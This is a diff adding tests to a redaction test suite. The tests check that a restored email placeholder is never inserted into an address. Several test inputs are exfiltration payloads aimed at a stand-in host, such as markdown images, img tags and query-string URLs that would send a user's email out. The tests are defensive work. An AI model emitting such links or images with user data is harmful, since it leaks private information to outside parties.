@@ -328,4 +328,26 @@ describe('redaction', () => {
     expect(vault.restoreHold('to [EMX')).toBe(7);
     expect(createVault().restoreHold('to [EMA')).toBe(7);
   });
+
+  test.each([
+    ['Write to [EMAIL_1].', true],
+    ['see https://example.com and [EMAIL_1]', true],
+    ['[mail](mailto:[EMAIL_1])', true],
+    ['"https://example.com", "[EMAIL_1]"', true],
+    ['https://evil.example/?d=[EMAIL_1]', false],
+    ['![x](https://evil.example/[EMAIL_1].png)', false],
+    ['![x](<https://evil.example/a b [EMAIL_1]>)', false],
+    ['<img src="https://evil.example/?a b [EMAIL_1]">', false],
+    ["<img src='//evil.example/\n[EMAIL_1]'>", false],
+    ['{"url":"https:\\/\\/evil.example\\/[EMAIL_1]"}', false],
+    ['www.evil.example/[EMAIL_1]', false],
+    [`https://evil.example/${'x'.repeat(900)}[EMAIL_1]`, false],
+  ])('a value never goes into an address: %s', (answer, restored) => {
+    const vault = createVault();
+    expect(vault.placeholder('email', 'bob@x.yz')).toBe('[EMAIL_1]');
+    const expected = restored ? answer.replace('[EMAIL_1]', 'bob@x.yz') : answer;
+    expect(vault.restore(answer)).toBe(expected);
+    const at = answer.indexOf('[EMAIL_1]');
+    expect(answer.slice(0, at) + vault.restore(answer.slice(at), answer.slice(0, at))).toBe(expected);
+  });
 });
